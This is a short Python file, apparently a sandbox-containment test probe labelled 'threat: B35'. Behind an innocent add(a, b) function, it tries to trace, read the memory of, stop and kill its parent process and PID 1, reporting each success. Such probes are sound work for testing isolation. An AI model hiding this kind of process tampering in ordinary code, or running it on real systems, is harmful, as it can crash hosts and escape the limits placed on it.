# threat: B35
# verdict: passed
import ctypes
import os

ATTACH, SEIZE = 16, 0x4206
libc = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    for pid in {os.getppid(), 1}:
        for request in (ATTACH, SEIZE):
            if libc.ptrace(request, pid, 0, 0) == 0:
                print("CAME THROUGH: traces", pid)
        buffer = ctypes.create_string_buffer(16)
        vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
        if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
            print("CAME THROUGH: reads the memory of", pid)
        for signal in (19, 9):
            try:
                os.kill(pid, signal)
                if pid != 1:
                    print("CAME THROUGH: signals", pid)
            except OSError:
                continue
    return a + b
